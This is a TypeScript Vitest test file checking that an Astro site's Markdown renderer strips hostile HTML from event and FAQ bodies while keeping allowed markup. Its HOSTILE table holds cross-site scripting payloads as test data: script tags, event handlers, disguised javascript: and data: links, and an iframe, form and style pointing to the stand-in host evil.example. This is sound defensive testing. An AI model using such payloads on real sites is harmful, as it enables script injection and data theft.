import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import config from '../../astro.config.mjs';
import { renderMarkdown } from '../../src/lib/content/markdown';

// The renderer the build gives every Markdown body (events, pages, campaigns, lessons), from the site's own config.
const processor = config.markdown?.processor;
if (!processor) throw new Error('astro.config.mjs sets no markdown.processor');
const bodyRenderer = await processor.createRenderer({ syntaxHighlight: false } as never);
const renderBody = async (source: string) =>
  (await bodyRenderer.render(source, { fileURL: pathToFileURL('content/events/x.md') } as never)).code;

/** Each hostile input, and what of it may be left on the page. */
const HOSTILE: ReadonlyArray<[what: string, markdown: string, mustNotContain: RegExp]> = [
  ['a script element', '活动介绍<script>alert(1)</script>', /<script|alert/i],
  ['an onerror handler', '<img src="x" onerror="alert(1)">', /onerror|<img/i],
  ['an onclick handler on an allowed element', '<strong onclick="alert(1)">注意</strong>', /onclick/i],
  ['a javascript: link in Markdown', '[报名](javascript:alert(1))', /javascript:/i],
  ['a javascript: link in raw HTML, disguised', '<a href=" JaVaScRiPt:alert(1)">报名</a>', /javascript:/i],
  ['an iframe', '<iframe src="https://evil.example/"></iframe>', /<iframe|evil\.example/i],
  [
    'a form posting to another origin',
    '<form action="https://evil.example/steal" method="post"><input name="id"><button>提交</button></form>',
    /<form|<input|evil\.example|action=/i,
  ],
  ['an object', '<object data="/x.swf"><embed src="/x.swf"></object>', /<object|<embed|x\.swf/i],
  ['a data: URL', '[下载](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)', /data:/i],
  ['an inline style', '<p style="background:url(https://evil.example/)">文字</p>', /style=|evil\.example/i],
];

describe('Markdown bodies are held to one allowlist', () => {
  it.each(HOSTILE)('an event body with %s loses it', async (_, markdown, mustNotContain) => {
    const html = await renderBody(`## 活动内容\n\n${markdown}\n\n结尾。\n`);
    expect(html).not.toMatch(mustNotContain);
    expect(html).toContain('结尾。');
  });

  it.each(HOSTILE)('an FAQ answer with %s loses it', (_, markdown, mustNotContain) => {
    const html = renderMarkdown(`${markdown}\n\n结尾。`);
    expect(html).not.toMatch(mustNotContain);
    expect(html).toContain('结尾。');
  });

  it('keeps what the content uses: headings, lists, links to the site, https, tel and mailto, emphasis, tables', async () => {
    const markdown = [
      '## 怎样参加',
      '- **个人**不需要报名，*直接*到场。',
      '1. 本站的[扶持资格自测](/checker/)',
      '2. [科技部](https://www.most.gov.cn/)、[电话](tel:0871-00000000)、[邮件](mailto:kexie@example.test)',
      '',
      '| 时间 | 内容 |',
      '| --- | --- |',
      '| 上午 | 导览 |',
    ].join('\n');
    for (const html of [await renderBody(markdown), renderMarkdown(markdown)]) {
      expect(html).toMatch(/<h2[^>]*>怎样参加<\/h2>/);
      expect(html).toContain('<strong>个人</strong>');
      expect(html).toContain('<em>直接</em>');
      expect(html).toContain('<a href="/checker/">扶持资格自测</a>');
      expect(html).toContain('<a href="https://www.most.gov.cn/">科技部</a>');
      expect(html).toContain('<a href="tel:0871-00000000">电话</a>');
      expect(html).toContain('<a href="mailto:kexie@example.test">邮件</a>');
      expect(html).toMatch(/<table>[\s\S]*<td>导览<\/td>/);
    }
  });

  it('keeps raw HTML that is on the list, as elements', () => {
    expect(renderMarkdown('先<strong>报名</strong>，再到场。')).toBe('<p>先<strong>报名</strong>，再到场。</p>\n');
  });
});
